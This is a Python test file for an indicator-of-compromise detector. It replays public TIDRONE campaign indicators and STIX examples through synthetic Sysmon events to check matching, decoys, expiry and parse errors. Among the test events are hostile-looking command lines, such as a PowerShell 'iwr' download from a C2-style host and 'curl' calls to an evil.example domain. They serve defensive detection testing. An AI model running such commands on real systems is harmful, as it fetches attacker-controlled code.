"""Indicators of compromise: STIX 2.0/2.1 and trail lists, matched against events. The
TIDRONE test replays the campaign's public indicators through the real parsers."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import orjson
import pytest

from maat.cli.main import run
from maat.detect.iocs import IocIndex, load_iocs, load_stix, load_trails
from maat.detect.stix_pattern import evaluate, parse_pattern, single_event
from maat.errors import InvalidInput
from telemetry_kit import SHARED, needs

TIDRONE = SHARED / "iocs-maltrail-tidrone" / "trails" / "static" / "malware" / "apt_tidrone.txt"
OASIS = SHARED / "stix21-oasis-examples" / "examples" / "example_json"
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def sysmon(event_id: int, record: int, **data: Any) -> bytes:
    return orjson.dumps({
        "@timestamp": "2026-11-25T10:00:00.000Z", "EventID": event_id, "RecordNumber": record,
        "Channel": SYSMON, "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "ENG-WS7",
        **data,
    })  # fmt: skip


def trail_parts(text: str) -> tuple[list[str], list[tuple[str, int | None]], list[str]]:
    """Domains, addresses and hashes of a Maltrail file, read independently of Maat."""
    domains, addresses, hashes = [], [], []
    for line in text.splitlines():
        line = line.strip()
        if line.startswith("#"):
            hashes += re.findall(r"/gui/file/([0-9a-f]{64})", line)
            addresses += [(a, None) for a in re.findall(r"/gui/ip-address/([\d.]+)/", line)]
        elif re.fullmatch(r"[\d.]+(:\d+)?", line):
            ip, _, port = line.partition(":")
            addresses.append((ip, int(port) if port else None))
        elif line:
            domains.append(line)
    return domains, addresses, hashes


@needs(TIDRONE)
def test_tidrone_domains_ip_and_hashes_raise_alerts_and_nothing_else(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MAAT_DATA_DIR", str(tmp_path / "unused"))
    domains, addresses, hashes = trail_parts(TIDRONE.read_text())
    assert len(domains) >= 20 and addresses and len(hashes) >= 10
    lines: list[bytes] = []
    expected: set[int] = set()

    def add(line: bytes, hit: bool) -> None:
        lines.append(line)
        if hit:
            expected.add(len(lines))

    for domain in domains:  # the C2 names resolved, and one subdomain of each
        add(sysmon(22, len(lines), QueryName=domain, Image="C:\\x\\w.exe"), True)
        add(sysmon(22, len(lines), QueryName=f"cdn.{domain.upper()}"), True)
    for ip, port in addresses:
        add(sysmon(3, len(lines), DestinationIp=ip, DestinationPort=str(port or 443),
                   Image="C:\\x\\w.exe"), True)  # fmt: skip
    for digest in hashes:
        add(sysmon(1, len(lines), Image="C:\\ProgramData\\ERP\\erp.exe",
                   Hashes=f"SHA256={digest.upper()},MD5=00000000000000000000000000000000"), True)  # fmt: skip
    add(sysmon(1, len(lines), Image="C:\\w\\powershell.exe",
               CommandLine="iwr http://update.microsoftsvc.com/p -o x"), True)  # fmt: skip
    # Decoys: parents of listed hosts, look-alikes, neighbours, other hashes.
    for name in ("amazonaws.com", "s3.ap-east-1.amazonaws.com", "ap-east-1.amazonaws.com",
                 "kt168.org", "wns.windowswns.com.example.org", "notfghytr.com", "fghytr.co",
                 "microsoft.com", "symantec.com", "vmware.com"):  # fmt: skip
        add(sysmon(22, len(lines), QueryName=name), False)
    add(sysmon(3, len(lines), DestinationIp="154.23.184.31", DestinationPort="5178"), False)
    add(sysmon(1, len(lines), Image="C:\\w\\erp.exe", Hashes="SHA256=" + "ab" * 32), False)
    add(sysmon(1, len(lines), Image="C:\\w\\cmd.exe",
               CommandLine="ping microsoftsvc.com.example.org"), False)  # fmt: skip
    events = tmp_path / "events.json"
    events.write_bytes(b"\n".join(lines))

    assert run(["detect", str(events), "--iocs", str(TIDRONE), "--format", "jsonl"]) == 0
    alerts = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {a["source.line"] for a in alerts} == expected
    assert all(a["rule.route"] == "ioc" and a["rule.level"] == "high" for a in alerts)
    by_line = {a["source.line"]: a for a in alerts}
    assert (
        by_line[1]["ioc.kind"] == "domain_tree" and by_line[1]["ioc.field"] == "dns.question.name"
    )


def test_exact_stix_domains_never_widen_to_parents_or_children() -> None:
    index = IocIndex(load_stix({"type": "bundle", "objects": [{
        "type": "indicator", "id": "indicator--1", "spec_version": "2.1",
        "pattern_type": "stix", "pattern": "[domain-name:value = 'a.evil.example']",
        "valid_from": "2020-01-01T00:00:00Z"}]}, "b.json"))  # fmt: skip
    assert index.match({"dns.question.name": "A.evil.example."})
    assert not index.match({"dns.question.name": "evil.example"})
    assert not index.match({"dns.question.name": "x.a.evil.example"})
    assert not index.match({"process.command_line": "curl x.a.evil.example"})
    assert index.match({"process.command_line": "curl https://a.evil.example/x"})


def test_trail_domains_cover_subdomains_but_not_parents() -> None:
    index = IocIndex(load_trails("onmondayr.s3.ap-east-1.amazonaws.com\n", "t.txt"))
    assert index.match({"dns.question.name": "onmondayr.s3.ap-east-1.amazonaws.com"})
    assert index.match({"url.domain": "x.onmondayr.s3.ap-east-1.amazonaws.com"})
    assert not index.match({"dns.question.name": "s3.ap-east-1.amazonaws.com"})
    assert not index.match({"dns.question.name": "amazonaws.com"})


def test_stix_2_0_bundle_hashes_addresses_networks_and_urls() -> None:
    bundle = {"type": "bundle", "spec_version": "2.0", "objects": [
        {"type": "indicator", "id": "indicator--h", "labels": ["malicious-activity"],
         "pattern": "[file:hashes.'SHA-256' = 'AB" + "cd" * 31 + "']"},
        {"type": "indicator", "id": "indicator--n",
         "pattern": "[ipv4-addr:value = '198.51.100.0/24' OR url:value = 'http://e.test/p']"},
        {"type": "indicator", "id": "indicator--old", "valid_until": "2020-01-01T00:00:00Z",
         "pattern": "[ipv4-addr:value = '203.0.113.9']"},
    ]}  # fmt: skip
    index = IocIndex(load_stix(bundle, "b20.json"))
    [hit] = index.match({"dll.hash.sha256": "ab" + "CD" * 31})
    assert hit.indicator.id == "indicator--h" and hit.field == "dll.hash.sha256"
    assert index.match({"source.ip": "198.51.100.77"})[0].indicator.id == "indicator--n"
    assert index.match({"url.original": "http://e.test/p"})
    assert not index.match({"source.ip": "198.51.101.1"})
    # An expired indicator stays quiet on events after its end, not before.
    assert not index.match({"destination.ip": "203.0.113.9", "@timestamp": "2026-01-01T00:00:00Z"})
    assert index.match({"destination.ip": "203.0.113.9", "@timestamp": "2019-06-01T00:00:00Z"})


def test_complex_patterns_run_through_the_pattern_matcher() -> None:
    tree = parse_pattern(
        "[process:name = 'winword.exe' AND (file:name LIKE 'wwlib%.dll' OR "
        "process:command_line MATCHES '(?i)-embedding')]"
    )
    assert single_event(tree) is None
    values = {"process:name": ["winword.exe"], "file:name": ["wwlib.dll"]}
    assert evaluate(tree, lambda path: values.get(path, []))
    assert not evaluate(tree, lambda path: {"process:name": ["excel.exe"]}.get(path, []))
    index = IocIndex(load_stix({"type": "indicator", "id": "indicator--c", "pattern":
        "[x509-certificate:serial_number = '01:02' AND x509-certificate:issuer LIKE 'CN=Evil%']"},
        "c.json"))  # fmt: skip
    assert index.match({"x509.serial_number": "01:02", "x509.issuer": "CN=Evil CA"})
    assert not index.match({"x509.serial_number": "01:02", "x509.issuer": "CN=Good CA"})


def test_indicators_that_cannot_run_are_listed_with_the_reason() -> None:
    loaded = load_stix({"type": "bundle", "objects": [
        {"type": "indicator", "id": "indicator--seq",
         "pattern": "[file:name = 'a'] FOLLOWEDBY [file:name = 'b'] WITHIN 60 SECONDS"},
        {"type": "indicator", "id": "indicator--mail",
         "pattern": "[email-message:subject = 'x']"},
        {"type": "indicator", "id": "indicator--yara", "pattern_type": "yara", "pattern": "rule x {}"},
        {"type": "indicator", "id": "indicator--bad", "pattern": "[file:name = ]"},
    ]}, "p.json")  # fmt: skip
    reasons = {p.indicator: p.reason for p in loaded.problems}
    assert "FOLLOWEDBY need several events" in reasons["indicator--seq"]
    assert "email-message:subject" in reasons["indicator--mail"]
    assert "yara" in reasons["indicator--yara"]
    assert "expected value" in reasons["indicator--bad"]
    assert len(loaded) == 0


def test_stix_pattern_errors_say_what_was_expected() -> None:
    with pytest.raises(InvalidInput, match="expected \\]"):
        parse_pattern("[file:name = 'a'")
    with pytest.raises(InvalidInput, match="unexpected"):
        parse_pattern("[file:name = 'a'] garbage ]")


@needs(OASIS)
def test_oasis_stix21_examples_load_with_only_email_patterns_left_out() -> None:
    loaded = load_iocs([(str(p), p.read_bytes()) for p in sorted(OASIS.glob("*.json"))])
    assert len(loaded) >= 40
    assert [p.reason for p in loaded.problems] == [
        "object path email-message:from_ref.value has no field in Maat's events; not run"
    ]
    index = IocIndex(loaded)
    assert index.match({"url.original": "http://x4z9arb.cn/4712/"})
    assert index.match({"destination.ip": "58.247.3.4"})  # apt1's 58.246.0.0/15
